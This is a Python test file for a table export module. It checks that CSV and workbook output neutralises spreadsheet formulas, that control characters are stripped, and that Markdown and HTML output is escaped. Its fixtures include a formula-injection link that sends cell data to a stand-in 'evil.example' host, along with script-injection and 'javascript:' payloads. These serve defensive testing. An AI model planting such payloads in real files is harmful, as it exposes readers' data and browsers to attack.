"""tables.export at its output boundary: CSV formula guard, workbook cell types, escaped Markdown."""

from __future__ import annotations

import pandas as pd
import pytest

from pewlike.tables.export import TableDoc, csv_safe, map_text, write_csv, write_xlsx


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "level": pd.Categorical(["=1+1", "Yes", "-"], categories=["=1+1", "Yes", "-"]),
            "ci": ["-1.2 - 3.4", "-0.53", "12.0 - 15.5"],
            "estimate": [-0.25, 0.5, float("nan")],
            "n": [-3, 10, 0],
        }
    )


def test_write_csv_guards_text_and_never_numbers(tmp_path):
    write_csv(_frame(), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == (
        "level,ci,estimate,n\n'=1+1,'-1.2 - 3.4,-0.25,-3\nYes,-0.53,0.5,10\n-,12.0 - 15.5,,0\n"
    )
    write_csv(_frame(), tmp_path / "b.csv", formula_guard=False)
    assert (tmp_path / "b.csv").read_text(encoding="utf-8").splitlines()[1] == "=1+1,-1.2 - 3.4,-0.25,-3"


def test_write_csv_guards_column_names_and_drops_control_characters(tmp_path):
    frame = pd.DataFrame({"@by": ["a\x1b[31mb\x07", "+x"], "=2+2 (A)": [1.5, -2.5]})
    write_csv(frame, tmp_path / "c.csv")
    assert (tmp_path / "c.csv").read_text(encoding="utf-8") == "'@by,'=2+2 (A)\nab,1.5\n'+x,-2.5\n"


def test_csv_safe_returns_the_same_frame_when_nothing_changes():
    frame = pd.DataFrame({"level": ["Yes", "No"], "estimate": [-0.5, 0.5], "by": pd.Categorical(["a", "b"])})
    assert csv_safe(frame) is frame
    upper = map_text(frame, str.upper)
    assert upper is not frame and upper.columns.tolist() == ["LEVEL", "ESTIMATE", "BY"]
    assert upper["BY"].tolist() == ["A", "B"] and upper["LEVEL"].tolist() == ["YES", "NO"]
    assert upper["ESTIMATE"].tolist() == [-0.5, 0.5] and upper["ESTIMATE"].dtype == float


def test_mixed_object_columns_keep_their_numbers(tmp_path):
    frame = pd.DataFrame({"statistic": ["n", "=sum"], "value": pd.Series([4272, 4272.0], dtype=object)})
    write_csv(frame, tmp_path / "m.csv")
    assert (tmp_path / "m.csv").read_text(encoding="utf-8") == "statistic,value\nn,4272\n'=sum,4272.0\n"


def test_workbook_cells_are_strings_with_the_quote_prefix_on_formulas(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"=2+2 (A)": ["@SUM(A1)", "<1", "-"], "%": ["-0.5", "=A1", "12"]})
    doc = TableDoc("t", '=HYPERLINK("http://evil.example/?d="&B5,"Click")', frame, ["+note"], [("\t=grp", 2)])
    write_xlsx([doc], tmp_path / "t.xlsx", title="=title\x00")
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    ws = wb["t"]
    got = {c.coordinate: (c.value, c.data_type, c.quotePrefix) for row in ws.iter_rows() for c in row if c.value}
    assert got == {
        "A1": ('=HYPERLINK("http://evil.example/?d="&B5,"Click")', "s", True),
        "A3": ("\t=grp", "s", True),
        "A4": ("=2+2 (A)", "s", True),
        "B4": ("%", "s", False),
        "A5": ("@SUM(A1)", "s", True),
        "B5": ("-0.5", "s", False),
        "A6": ("<1", "s", False),
        "B6": ("=A1", "s", True),
        "A7": ("-", "s", False),
        "B7": ("12", "s", False),
        "A9": ("+note", "s", True),
    }
    assert wb.properties.title == "=title"


def test_table_markdown_is_escaped_on_one_line():
    frame = pd.DataFrame({"Response": ["<script>x</script>", "  [a](javascript:b)"], "%": ["1|2", "*"]})
    doc = TableDoc("m", "Title\n# <img src=x onerror=y>", frame, ["note\n[r]: javascript:z"])
    assert doc.markdown().splitlines() == [
        "**Title \\# &lt;img src=x onerror=y>**",
        "",
        "| Response | % |",
        "| :--- | ---: |",
        "| &lt;script>x&lt;/script> | 1\\|2 |",
        "| \u00a0\u00a0[a\\](javascript:b) | \\* |",
        "",
        "note [r\\]: javascript:z",
    ]


@pytest.mark.parametrize("title", ["<b>x</b>", "x\x00\x1b]0;t\x07"])
def test_table_html_is_escaped_and_plain(title):
    doc = TableDoc("h", title, pd.DataFrame({"a": ["<i>\x07"]}), ["<u>"])
    out = doc.html()
    assert "<b>" not in out and "<i>" not in out and "<u>" not in out and "\x07" not in out and "\x00" not in out
    assert "&lt;i&gt;" in out
